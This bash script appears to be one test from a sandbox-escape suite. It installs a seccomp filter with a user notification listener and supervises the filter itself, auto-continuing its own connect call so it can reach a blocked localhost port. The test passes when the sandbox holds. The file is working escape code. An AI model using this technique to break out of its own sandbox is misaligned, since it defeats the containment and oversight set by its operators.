#!/bin/bash
# must NOT let its own connects pass as the supervisor of its own filter (seccomp with NEW_LISTENER, and CONTINUE). Success (exit 0) = the escape WORKED; any other exit = held; 77 = prerequisite missing.
. "${SBX_ENV:-./attack.env}" || exit 77
needpy
case $(uname -m) in x86_64) n=317; c=42;; aarch64) n=277; c=203;; *) exit 77;; esac
N=$n C=$c timeout 10 $PY - <<'P'
import ctypes,fcntl,os,socket,struct,sys,threading,time
libc=ctypes.CDLL(None,use_errno=True); victim=int(os.environ["ATK_TCP"]); box=[-1]
def supervise():
    while box[0]<0: time.sleep(.01)
    while 1:
        n=ctypes.create_string_buffer(80)
        if libc.ioctl(box[0],ctypes.c_ulong(0xc0502100),n)<0: continue
        r=ctypes.create_string_buffer(n.raw[:8]+struct.pack("<qiI",0,0,1),24); libc.ioctl(box[0],ctypes.c_ulong(0xc0182101),r)
threading.Thread(target=supervise,daemon=True).start()
prog=[(0x20,0,0,0),(0x15,0,1,int(os.environ["C"])),(6,0,0,0x7fc00000),(6,0,0,0x7fff0000)]
b=ctypes.create_string_buffer(b"".join(struct.pack("<HBBI",*i) for i in prog)); f=ctypes.create_string_buffer(struct.pack("<HxxxxxxQ",len(prog),ctypes.addressof(b)),16)
libc.prctl(38,1,0,0,0)
fd=-1
for flags in (8,8|32,8|16,8|2):
    if fd<0: fd=libc.syscall(int(os.environ["N"]),1,flags,f)
if fd<0: os._exit(1)
box[0]=fd; s=socket.socket(); s.settimeout(3)
try: s.connect(("127.0.0.1",victim)); os._exit(0)
except OSError: os._exit(1)
P
